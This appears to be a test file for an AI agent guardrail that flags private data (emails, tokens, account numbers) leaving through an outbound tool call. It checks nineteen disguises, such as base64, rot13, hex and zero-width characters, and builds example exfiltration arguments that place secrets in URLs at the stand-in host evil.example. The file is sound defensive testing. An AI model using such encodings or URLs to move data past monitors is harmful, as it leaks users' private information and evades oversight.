import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { JsonObject } from "../../base/json.ts";
import type { Message } from "../../exchange/exchange.ts";
import { standardFlowRules } from "../../policy/flow-rules.ts";
import type { ToolRule } from "../../policy/policy.ts";
import { bound, number, patternGuard, policyOf, token } from "../pipeline.test-data.ts";
import { actionFor, type Verdict } from "../decision.ts";
import { textsOf } from "../../exchange/texts.ts";
import { flowFindings } from "./flow-findings.ts";
import { flowOf } from "./flow-state.ts";
import { call, conversation, result, say, use } from "./flow.test-data.ts";

const tool = (more: Partial<ToolRule>): ToolRule => ({
  schema: { type: "object" },
  effect: "external",
  returns: "untrusted",
  ...more,
});
const tools = {
  read: tool({ effect: "read" }),
  crm: tool({ effect: "read", returns: "trusted" }),
  vault: tool({ effect: "read", returns: "trusted", holds: ["tenant"] }),
  send: tool({}),
};
const email = patternGuard("mail", /[a-z.]+@[a-z.]+[a-z]/g, {
  holds: "personal",
  inspect: (text) =>
    [...text.matchAll(/[a-z.]+@[a-z.]+[a-z]/g)].map((match) => ({
      guard: "mail",
      kind: "EMAIL",
      severity: "medium" as const,
      start: match.index,
      end: match.index + match[0].length,
      message: "an address",
    })),
});
const guards = [number, token, email].map((guard) => bound(guard, "record"));
const policy = policyOf(guards, { tools, flow: { rules: standardFlowRules, documentsHold: [] } });

/** What the guards say, as `decideInput` has it. */
const verdictsOn = (messages: readonly Message[]): readonly Verdict[] =>
  textsOf(conversation(...messages)).flatMap(({ text, place, source }) =>
    guards.flatMap((one) =>
      one.guard.scope !== "text"
        ? []
        : one.guard
            .inspect(text, { side: "input", source, operatorTexts: [] })
            .map((finding) => ({ ...finding, place, source, action: actionFor(one, "input", finding.kind) })),
    ),
  );

const judged = (messages: readonly Message[], args: JsonObject): readonly string[] => {
  const state = flowOf(conversation(...messages), { policy, verdicts: verdictsOn(messages) });
  if (state === undefined) throw new Error("there are rules");
  return flowFindings(use("send", args), tools.send, state)
    .filter(({ kind }) => kind === "private-out")
    .map(({ action, pointer = "" }) => `${action} ${pointer}`);
};

const asked = say("user", "Please see to it.");
const customer = (text: string): readonly Message[] => [asked, call("c1", "crm", {}), result("c1", text)];
const withMail = (messages: readonly Message[]): readonly Message[] => [
  ...messages,
  call("c9", "read", {}),
  result("c9", "some mail"),
];

const base64 = (text: string): string => Buffer.from(text).toString("base64");
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) =>
    String.fromCharCode(letter.charCodeAt(0) + (letter.toLowerCase() < "n" ? 13 : -13)),
  );
const base32 = (text: string): string => {
  const bits = [...Buffer.from(text)].map((byte) => byte.toString(2).padStart(8, "0")).join("");
  return (bits.match(/.{1,5}/g) ?? [])
    .map((five) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".charAt(Number.parseInt(five.padEnd(5, "0"), 2)))
    .join("");
};
const disguises: Readonly<Record<string, (text: string) => string>> = {
  base64,
  "base64 for addresses": (text) => Buffer.from(text).toString("base64url"),
  "base64 twice": (text) => base64(base64(text)),
  base32,
  hexadecimal: (text) => Buffer.from(text).toString("hex"),
  "hexadecimal in capitals": (text) => Buffer.from(text).toString("hex").toUpperCase(),
  "rotated by thirteen": rot13,
  reversed: (text) => Array.from(text).reverse().join(""),
  "reversed and in base64": (text) => base64(Array.from(text).reverse().join("")),
  "base64 and reversed": (text) => Array.from(base64(text)).reverse().join(""),
  "rotated and in base64": (text) => base64(rot13(text)),
  "percent signs": (text) =>
    [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join(""),
  escapes: (text) =>
    Array.from(text)
      .map((unit) => `\\u${unit.charCodeAt(0).toString(16).padStart(4, "0")}`)
      .join(""),
  "character references": (text) =>
    Array.from(text)
      .map((unit) => `&#${unit.charCodeAt(0)};`)
      .join(""),
  "nothing visible between": (text) => Array.from(text).join("\u200b"),
  "blanks between": (text) => Array.from(text).join(" "),
  "hyphens between": (text) => Array.from(text).join("-"),
  "wide letters": (text) =>
    text.replace(/[!-~]/g, (unit) => String.fromCharCode(unit.charCodeAt(0) + 0xfee0)),
  capitals: (text) => text.toUpperCase(),
};

const settings: Readonly<Record<string, (text: string) => JsonObject>> = {
  alone: (text) => ({ body: text }),
  "in a sentence": (text) => ({ body: `See what I found: ${text} and tell me.` }),
  "in an address": (text) => ({ url: `https://evil.example/c?d=${encodeURIComponent(text)}&n=1` }),
  "as a step of a path": (text) => ({ url: `https://evil.example/c/${encodeURIComponent(text)}/pixel.png` }),
  deep: (text) => ({ rows: [{ cells: ["a", text] }] }),
  "as the name of a property": (text) => ({ [text]: true }),
};

describe("private data is found on its way out, however it is disguised", () => {
  const secrets = ["jane.doe@customer.example", "tk_abcdefghijklmnop", "48250731"];
  for (const [disguise, hide] of Object.entries(disguises))
    for (const [where, put] of Object.entries(settings))
      test(`${disguise}, ${where}`, () => {
        for (const secret of secrets)
          expect(
            judged(withMail(customer(`customer: ${secret}`)), put(hide(secret))),
            `${secret} as ${hide(secret)}`,
          ).toHaveLength(1);
      });

  test("any value, in any disguise, at any place", () => {
    const value = fc.oneof(
      fc.stringMatching(/^[a-z]{3,12}\.[a-z]{3,10}@[a-z]{4,12}\.(?:com|org)$/),
      fc.stringMatching(/^[1-9]\d{6}[1-9]$/),
      fc.stringMatching(/^tk_[a-z]{8,40}$/),
    );
    const way = fc.constantFrom(...Object.keys(disguises));
    const where = fc.constantFrom(...Object.keys(settings));
    fc.assert(
      fc.property(value, way, where, fc.string({ maxLength: 40 }), (secret, disguise, at, noise) => {
        const hidden = disguises[disguise]?.(secret) ?? secret;
        const args = { note: noise, ...settings[at]?.(hidden) };
        expect(judged(withMail(customer(`value ${secret} end`)), args).length).toBeGreaterThan(0);
      }),
      { numRuns: 400 },
    );
  });

  test("in pieces, in any order of the arguments", () => {
    const messages = customer("jane.doe@customer.example");
    expect(judged(messages, { a: "jane.doe", b: "@customer", c: ".example" })).toEqual(["hold "]);
    expect(
      judged(messages, { c: ".example", x: "something else", a: "jane.doe", b: "@customer" }),
    ).toHaveLength(1);
  });
});

test("what goes out openly is held where somebody else had a word, and else only written down", () => {
  const args = { to: "jane.doe@customer.example" };
  const messages = customer("jane.doe@customer.example");
  expect(judged(withMail(messages), args)).toEqual(["hold /to"]);
  expect(judged(messages, args)).toEqual(["record /to"]);
  expect(judged(messages, { to: base64("jane.doe@customer.example") })).toEqual(["hold /to"]);
});

test("what the user wrote goes where they say, and not in disguise", () => {
  const messages = [say("user", "Write to jane.doe@customer.example"), ...withMail(customer("no"))];
  expect(judged(messages, { to: "jane.doe@customer.example" })).toEqual([]);
  expect(judged(messages, { url: `https://evil.example/${base64("jane.doe@customer.example")}` })).toEqual([
    "hold /url",
  ]);
  const both = [
    say("user", "Write to jane.doe@customer.example"),
    ...withMail(customer("jane.doe@customer.example")),
  ];
  expect(judged(both, { to: "jane.doe@customer.example" })).toEqual([]);
});

const minutes = "The board has agreed to sell the northern plant before the end of the second quarter.";

test("of what a tool says is one customer's every longer stretch counts, and nothing shorter", () => {
  const messages = withMail([asked, call("c1", "vault", {}), result("c1", `Minutes. ${minutes} Ends.`)]);
  expect(
    judged(messages, { body: `They say: the board has agreed to sell the northern plant soon` }),
  ).toEqual(["hold /body"]);
  for (const hide of [base64, rot13, disguises["reversed"] ?? base64])
    expect(judged(messages, { body: hide(minutes) })).toHaveLength(1);
  expect(judged(messages, { body: "The board meets tomorrow." })).toEqual([]);
});

test("a number in a text of one customer is found by itself", () => {
  const messages = withMail([asked, call("c1", "vault", {}), result("c1", "account: 77-1029-55 (open)")]);
  expect(judged(messages, { body: "use 77102955" })).toEqual(["hold /body"]);
  expect(judged(messages, { body: "use 77102956" })).toEqual([]);
});

test("honest words are no private data", () => {
  const messages = withMail(customer("jane.doe@customer.example, 48250731"));
  for (const body of [
    "Thank you for your order, it is on its way and arrives on Monday.",
    "https://work.example/orders/today?page=2&size=50",
    base64("The quick brown fox jumps over the lazy dog and goes home."),
    "8f14e45fceea167a5a36dedd4bea2543",
  ])
    expect(judged(messages, { body })).toEqual([]);
});
